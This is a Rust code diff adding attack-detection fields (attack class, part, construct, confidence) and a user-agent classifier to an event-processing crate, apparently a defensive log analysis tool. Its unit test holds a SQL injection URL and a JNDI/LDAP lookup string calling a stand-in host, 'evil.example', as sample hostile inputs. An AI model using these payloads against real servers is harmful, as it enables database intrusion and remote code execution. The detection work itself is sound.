@@ -7,17 +7,26 @@
 //! | `http.request.referrer.decoded` | `http.request.referrer` |
 //!
 //! `source.net` is the network that `source.ip` stands for: an IPv4 address itself, an IPv6 address
-//! cut to its /64. Text that is no address has none.
+//! cut to its /64. Text that is no address has none. `user_agent.class` is the kind of program that
+//! `user_agent.original` claims to be. `belfry.attack.class`, `.part`, `.construct` and
+//! `.confidence` are what the recogniser of attack strings found, the surest class first.
 //!
 //! Decoding is bounded: up to [`limits::DECODE_ROUNDS_MAX`] rounds of `%XX`, `%uXXXX` and `+` (a
 //! space), so that double-encoded attacks read like plain ones. Overlong two-byte forms of ASCII
 //! (`%c0%ae` for a dot) read as the character; other bytes that are not UTF-8 read as U+FFFD.
 
-use event::{Event, field};
+use event::{Event, Value, field};
 
 use crate::limits;
-use crate::predicate::push_folded;
+use crate::predicate::{push_folded, push_plain};
 use crate::spelling;
+
+mod agent_class;
+mod attack_field;
+
+pub use attack_field::attacks;
+
+use attack_field::{AttackScan, Finding};
 
 /// A derived field.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -30,10 +39,30 @@ pub(crate) enum Derived {
     Referrer,
     /// `source.net`
     SourceNet,
+    /// `user_agent.class`
+    AgentClass,
+    /// `belfry.attack.class`
+    AttackClass,
+    /// `belfry.attack.part`
+    AttackPart,
+    /// `belfry.attack.construct`
+    AttackConstruct,
+    /// `belfry.attack.confidence`
+    AttackConfidence,
 }
 
 impl Derived {
-    const ALL: [Self; 4] = [Self::Url, Self::Body, Self::Referrer, Self::SourceNet];
+    const ALL: [Self; 9] = [
+        Self::Url,
+        Self::Body,
+        Self::Referrer,
+        Self::SourceNet,
+        Self::AgentClass,
+        Self::AttackClass,
+        Self::AttackPart,
+        Self::AttackConstruct,
+        Self::AttackConfidence,
+    ];
 
     fn name(self) -> &'static str {
         match self {
@@ -41,6 +70,11 @@ impl Derived {
             Self::Body => "http.request.body.decoded",
             Self::Referrer => "http.request.referrer.decoded",
             Self::SourceNet => "source.net",
+            Self::AgentClass => "user_agent.class",
+            Self::AttackClass => "belfry.attack.class",
+            Self::AttackPart => "belfry.attack.part",
+            Self::AttackConstruct => "belfry.attack.construct",
+            Self::AttackConfidence => "belfry.attack.confidence",
         }
     }
 
@@ -88,8 +122,34 @@ impl Derived {
                     return;
                 }
             }
+            Self::AgentClass => match event.text(field::USER_AGENT_ORIGINAL) {
+                Some(agent) => out.push_str(agent_class::class_of(agent)),
+                // Only a request could have had one.
+                None if event.has(field::HTTP_REQUEST_METHOD) => out.push_str("none"),
+                None => return,
+            },
+            Self::AttackClass
+            | Self::AttackPart
+            | Self::AttackConstruct
+            | Self::AttackConfidence => {
+                for finding in deriver.attacks.findings(event) {
+                    self.push_finding(finding, out);
+                    ends.push(out.len());
+                }
+                return;
+            }
         }
         ends.push(out.len());
+    }
+
+    /// Parts keep the names that senders gave them, in lower case like all derived text.
+    fn push_finding(self, finding: &Finding, out: &mut String) {
+        match self {
+            Self::AttackClass => out.push_str(finding.class.name()),
+            Self::AttackPart => push_folded(out, &finding.part),
+            Self::AttackConstruct => out.push_str(finding.construct),
+            _ => push_plain(out, Value::Int(i64::from(finding.confidence))),
+        }
     }
 
     /// Its first value for `event`, appended to `out`; `false` when there is none. For the few
@@ -107,12 +167,14 @@ impl Derived {
 #[derive(Debug, Default)]
 pub(crate) struct Deriver {
     decoder: Decoder,
+    attacks: AttackScan,
 }
 
 impl Deriver {
     /// Forgets what was found in the event before.
-    #[expect(clippy::unused_self, reason = "nothing is shared between fields yet")]
-    pub(crate) fn begin(&mut self) {}
+    pub(crate) fn begin(&mut self) {
+        self.attacks.begin();
+    }
 }
 
 /// Buffers of the decoder, kept from event to event.
@@ -223,6 +285,47 @@ mod tests {
         let mut out = "before ".to_owned();
         assert_eq!(derived.push_first(&event, &mut out), !expected.is_empty());
         assert_eq!(out, format!("before {expected}"));
+    }
+
+    #[test]
+    fn attack_fields_share_one_scan() {
+        let mut event = Event::new();
+        event.push_str(field::URL_ORIGINAL, "/item?ID=-1%20union%20select%201,2--");
+        event.push_str(field::USER_AGENT_ORIGINAL, "${jndi:ldap://evil.example/a}");
+        let mut deriver = Deriver::default();
+        let mut all = Vec::new();
+        for derived in [
+            Derived::AttackClass,
+            Derived::AttackPart,
+            Derived::AttackConstruct,
+            Derived::AttackConfidence,
+        ] {
+            let (mut out, mut ends, mut start) = (String::new(), Vec::new(), 0);
+            derived.derive(&event, &mut deriver, &mut out, &mut ends);
+            for end in ends {
+                all.push(out[start..end].to_owned());
+                start = end;
+            }
+        }
+        let expected = [
+            "command_injection",
+            "sqli",
+            "user-agent",
+            "query.id",
+            "jndi-lookup",
+            "union-select",
+            "98",
+            "97",
+        ];
+        assert_eq!(all, expected);
+        assert_eq!(attacks(&event)[1], "sqli union-select in query.ID (97 %)");
+        check_field(Derived::AttackClass, field::URL_ORIGINAL, "/item?id=1", "");
+        check_field(
+            Derived::AgentClass,
+            field::USER_AGENT_ORIGINAL,
+            "curl/8",
+            "tool",
+        );
     }
 
     #[test]
